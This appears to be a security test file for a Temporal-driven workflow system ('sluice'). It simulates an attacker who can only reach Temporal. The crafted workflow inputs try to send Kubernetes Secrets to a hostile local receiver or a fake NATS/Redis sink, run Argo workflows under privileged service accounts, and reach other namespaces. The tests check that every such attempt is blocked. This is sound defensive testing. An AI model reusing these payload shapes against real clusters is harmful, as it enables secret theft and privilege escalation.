/**
 * An attacker who reaches Temporal's port, and nothing else: no Kubernetes, no bus, no command of ours. It starts
 * workflows with inputs of its own making, past every check that `sluice apply` makes.
 */
import { readFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { Client, Connection } from '@temporalio/client';
import { temporal } from '@temporalio/proto';
import { repoRoot } from '../../dev/repo-root';
import { startNats, startTemporal, type RunningNats } from '../../dev/servers';
import { startWorker } from '../../dev/worker-process';
import { createApiClient, type ApiClient } from '../../dev/kubernetes/api-client';
import type { FireStatus } from '../../src/contract/fires';
import { loadDeployManifests } from '../deploy/deploy-manifests';
import { deployRoles } from '../setup/deployed-roles';
import { eventually } from '../setup/eventually';
import { sharedKubernetes } from '../setup/shared-kubernetes';
import { startHostileReceiver, type HostileReceiver } from './hostile-receiver';

const SUFFIX = randomBytes(4).toString('hex');
const NAMESPACE = `sluice-${SUFFIX}`;
const OTHER_NAMESPACE = `other-${SUFFIX}`;
const QUEUES = { eventSource: `es-${SUFFIX}`, sensor: `sn-${SUFFIX}` };
/** Of docs/security.md. */
const ALLOWED = { account: 'workflow-runner', secret: 'redis-auth' };
const SECRET_VALUE = `value${randomBytes(8).toString('hex')}`;

const closing: Array<() => Promise<unknown>> = [];
let client: Client;
let api: ApiClient;
let receiver: HostileReceiver;
let sink: CredentialSink;
/** The attacker's own, which lets everybody in. */
let nats: RunningNats;

beforeAll(async () => {
  const kubernetes = await sharedKubernetes();
  api = createApiClient({
    url: kubernetes.url,
    ca: readFileSync(kubernetes.caPath, 'utf8'),
    token: kubernetes.adminToken,
  });
  closing.push(() => Promise.resolve(api.close()));
  const kubeconfigs = await deployRoles(kubernetes, NAMESPACE);
  await api.expect('POST', '/api/v1/namespaces', { metadata: { name: OTHER_NAMESPACE } });
  for (const namespace of [NAMESPACE, OTHER_NAMESPACE]) {
    for (const name of [ALLOWED.secret, 'admin']) {
      const secret = { metadata: { name }, stringData: { key: SECRET_VALUE } };
      await api.expect('POST', `/api/v1/namespaces/${namespace}/secrets`, secret);
    }
    for (const name of ['workflow-runner', 'argo']) {
      await api.expect('POST', `/api/v1/namespaces/${namespace}/serviceaccounts`, { metadata: { name } });
    }
  }
  const { address } = await startTemporal();
  const environment = {
    TEMPORAL_ADDRESS: address,
    SLUICE_EVENT_SOURCE_TASK_QUEUE: QUEUES.eventSource,
    SLUICE_SENSOR_TASK_QUEUE: QUEUES.sensor,
    ...deployedEnvironment(),
    ...documentedPermissions(),
  };
  const workers = await Promise.all([
    startWorker('event-source', { ...environment, KUBECONFIG: kubeconfigs.eventSource }),
    startWorker('sensor', { ...environment, KUBECONFIG: kubeconfigs.sensor }),
  ]);
  closing.push(...workers.map((worker) => () => worker.stop()));
  receiver = await startHostileReceiver();
  sink = await startCredentialSink();
  nats = await startNats({ own: true });
  closing.push(
    () => receiver.stop(),
    () => sink.stop(),
    () => nats.stop(),
  );
  const connection = await Connection.connect({ address });
  closing.push(() => connection.close());
  client = new Client({ connection });
}, 120_000);
afterAll(async () => {
  for (const end of closing.splice(0).reverse()) await end();
});

/** What the Deployments set from the pod that runs them. */
function deployedEnvironment(): Record<string, string> {
  const [deployment] = loadDeployManifests(NAMESPACE).filter(
    ({ kind, metadata }) => kind === 'Deployment' && metadata.name?.includes('sensor-worker'),
  );
  const { template } = deployment?.spec as { template: { spec: { containers: [{ env: DeployedVariable[] }] } } };
  const ofNamespace = template.spec.containers[0].env.filter(
    ({ valueFrom }) => valueFrom?.fieldRef?.fieldPath === 'metadata.namespace',
  );
  expect(ofNamespace.map(({ name }) => name)).toContain('SLUICE_ALLOWED_NAMESPACES');
  return Object.fromEntries(ofNamespace.map(({ name }) => [name, NAMESPACE]));
}

interface DeployedVariable {
  readonly name: string;
  readonly valueFrom?: { readonly fieldRef?: { readonly fieldPath: string } };
}

/** The lists that docs/security.md tells owners of shared workers to set. */
function documentedPermissions(): Record<string, string> {
  const page = readFileSync(join(repoRoot, 'docs', 'security.md'), 'utf8');
  const lists = [...page.matchAll(/^\s*(SLUICE_ALLOWED_\w+): (\S+)$/gm)].map(([, name = '', value = '']) => [
    name,
    value,
  ]);
  expect(lists).toHaveLength(3);
  return Object.fromEntries(lists) as Record<string, string>;
}

interface CredentialSink {
  readonly port: number;
  /** Everything that clients have sent. */
  received(): string;
  stop(): Promise<void>;
}

/** Greets as NATS does and keeps what it is sent; clients of Redis talk first. */
async function startCredentialSink(): Promise<CredentialSink> {
  let text = '';
  const greeting = { server_id: 'x', version: '2.10.0', max_payload: 1_048_576, headers: true, auth_required: true };
  const open = new Set<Socket>();
  const server: Server = createServer((socket) => {
    open.add(socket);
    socket.on('error', () => undefined);
    socket.on('data', (chunk) => (text += chunk.toString('latin1')));
    socket.write(`INFO ${JSON.stringify(greeting)}\r\n`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    received: () => text,
    stop: () => {
      for (const socket of open) socket.destroy();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}

const ARGO = 'argoproj.io/v1alpha1';
const workflow = (spec: object, metadata: object = {}) => ({
  apiVersion: ARGO,
  kind: 'Workflow',
  metadata: { generateName: 'rogue-', ...metadata },
  spec: { entrypoint: 'x', templates: [{ name: 'x', container: { image: 'attacker/image' } }], ...spec },
});
const submit = (resource: object) => ({ argoWorkflow: { operation: 'submit', source: { resource } } });
const create = (resource: object) => ({ k8s: { operation: 'create', source: { resource } } });
const stealTo = (path: string, secret: string) => ({
  http: {
    url: `${receiver.url}/${path}`,
    secureHeaders: [{ name: 'Authorization', valueFrom: { secretKeyRef: { name: secret, key: 'key' } } }],
  },
});
const RUNNER = { serviceAccountName: ALLOWED.account };
const bus = () => ({
  namespace: NAMESPACE,
  name: 'default',
  spec: {
    jetstreamExotic: { url: `nats://127.0.0.1:${sink.port}`, accessSecret: { name: 'admin', key: 'key' } },
  },
});

/** How the one fire of a run ends whose input nothing has checked. */
async function fire(template: object, more: { namespace?: string; overrides?: object } = {}): Promise<FireStatus> {
  const { namespace = NAMESPACE, overrides } = more;
  const event = {
    ...{ specversion: '1.0', id: 'e', source: 's', subject: 'e', type: 'webhook', time: new Date().toISOString() },
    ...{ datacontenttype: 'application/json', data: {} },
  };
  const input = {
    sensor: { namespace, name: 'rogue' },
    events: [event],
    fires: [{ id: randomBytes(6).toString('hex'), trigger: 't', dependencies: { d: [0] } }],
    triggers: { t: { template: { name: 't', conditions: 'd', ...template } } },
    options: { parkForMs: 60_000, followOutcome: false },
    bus: { ...bus(), namespace },
    ...(overrides && { retriggerOf: { by: 'admin', why: 'because', runId: 'x', overrides } }),
  };
  const workflowId = `run/${namespace}/rogue/${randomBytes(6).toString('hex')}`;
  const handle = await client.workflow.start('sensorRun', { workflowId, taskQueue: QUEUES.sensor, args: [input] });
  return await eventually(async () => {
    const [status] = await handle.query<readonly FireStatus[]>('fires');
    return status && ['Parked', 'Succeeded', 'Waiting', 'Failed'].includes(status.state) ? status : undefined;
  });
}

async function workflowsIn(namespace: string): Promise<ReadonlyArray<{ spec: { serviceAccountName?: string } }>> {
  const { body } = await api.expect('GET', `/apis/${ARGO}/namespaces/${namespace}/workflows`);
  return (body as { items: ReadonlyArray<{ spec: { serviceAccountName?: string } }> }).items;
}

describe('a client with access to Temporal only', () => {
  it('can use everything that the settings of the workers allow', async () => {
    expect(await fire(stealTo('allowed', ALLOWED.secret))).toMatchObject({ state: 'Succeeded' });
    expect(receiver.requests).toEqual([{ path: '/allowed', authorization: SECRET_VALUE }]);
    const submitted = await fire(submit(workflow({ serviceAccountName: ALLOWED.account })));
    expect(submitted).toMatchObject({ object: { kind: 'Workflow' } });
  });

  it.each<[string, () => Promise<FireStatus>]>([
    ['read another Secret', () => fire(stealTo('stolen', 'admin'))],
    ['read a Secret of another namespace', () => fire(stealTo('stolen', ALLOWED.secret), { namespace: OTHER_NAMESPACE })], // prettier-ignore
    ['send one to a NATS of its own', () => fire({ nats: { url: `nats://127.0.0.1:${sink.port}`, subject: 's', payload: [{ src: { dependencyName: 'd' }, dest: 'd' }], auth: { token: { name: 'admin', key: 'key' } } } })], // prettier-ignore
    ['run as another account', () => fire(submit(workflow({ serviceAccountName: 'argo' })))],
    ['run as the account of a worker', () => fire(submit(workflow({ serviceAccountName: 'sluice-sensor-worker' })))],
    ['run as the default account', () => fire(submit(workflow({})))],
    ['hide the account in a template', () => fire(submit(workflow({ ...RUNNER, templates: [{ name: 'x', serviceAccountName: 'argo' }] })))], // prettier-ignore
    ['hide the account in a patch of the pod', () => fire(submit(workflow({ ...RUNNER, podSpecPatch: '{"serviceAccountName":"argo"}' })))], // prettier-ignore
    ['run in another namespace', () => fire(submit(workflow(RUNNER, { namespace: OTHER_NAMESPACE })))],
    ['create a Pod', () => fire(create({ apiVersion: 'v1', kind: 'Pod', metadata: { generateName: 'rogue-' }, spec: RUNNER }))], // prettier-ignore
    ['read a ConfigMap of another namespace', () => fire({ k8s: { operation: 'create', source: { configmap: { name: 'x', key: 'x' } } } }, { namespace: OTHER_NAMESPACE })], // prettier-ignore
  ])('cannot %s', async (_what, attempt) => {
    const before = await workflowsIn(NAMESPACE);
    const fired = await attempt();
    expect(fired.state).toBe('Parked');
    expect(JSON.stringify(fired.failure)).toContain('SLUICE_ALLOWED_');
    expect(await workflowsIn(NAMESPACE)).toHaveLength(before.length);
    expect(await workflowsIn(OTHER_NAMESPACE)).toEqual([]);
    expect(receiver.requests.map(({ path }) => path)).not.toContain('/stolen');
    expect(sink.received()).not.toContain(SECRET_VALUE);
  });

  it('cannot change the account by values set at a retrigger', async () => {
    const allowed = submit(workflow({ serviceAccountName: ALLOWED.account }));
    for (const path of ['spec.serviceAccountName', 'spec.templates.0.serviceAccountName', 'spec.podSpecPatch']) {
      const fired = await fire(allowed, { overrides: { [path]: 'argo' } });
      expect(fired).toMatchObject({ state: 'Parked' });
    }
    for (const { spec } of await workflowsIn(NAMESPACE)) expect(spec.serviceAccountName).toBe(ALLOWED.account);
  });

  it('cannot have a Secret sent to a Redis or a bus of its own', async () => {
    const relay = (name: string, spec: object, busSpec: object) =>
      client.workflow.start('eventSource', {
        workflowId: `event-source/${NAMESPACE}/${name}`,
        taskQueue: QUEUES.eventSource,
        args: [{ definition: { namespace: NAMESPACE, name, spec, options: {}, bus: busSpec } }],
      });
    const hostAddress = `127.0.0.1:${sink.port}`;
    const handles = [
      await relay(
        'redis',
        { redisStream: { e: { hostAddress, streams: ['s'], password: { name: 'admin', key: 'key' } } } },
        { ...bus(), spec: { jetstreamExotic: { url: nats.url } } },
      ),
      await relay('bus', { redisStream: { e: { hostAddress: '127.0.0.1:1', streams: ['s'] } } }, bus()),
    ];
    for (const handle of handles) {
      await eventually(async () => {
        const [status, { raw }] = await Promise.all([handle.query('status'), handle.describe()]);
        const { DescribeWorkflowExecutionResponse } = temporal.api.workflowservice.v1;
        const described = Buffer.from(DescribeWorkflowExecutionResponse.encode(raw).finish());
        return `${JSON.stringify(status)}${described.toString('latin1')}`.includes('SLUICE_ALLOWED_SECRETS');
      });
      await handle.terminate('the test has seen enough');
    }
    expect(sink.received()).not.toContain(SECRET_VALUE);
  });
});
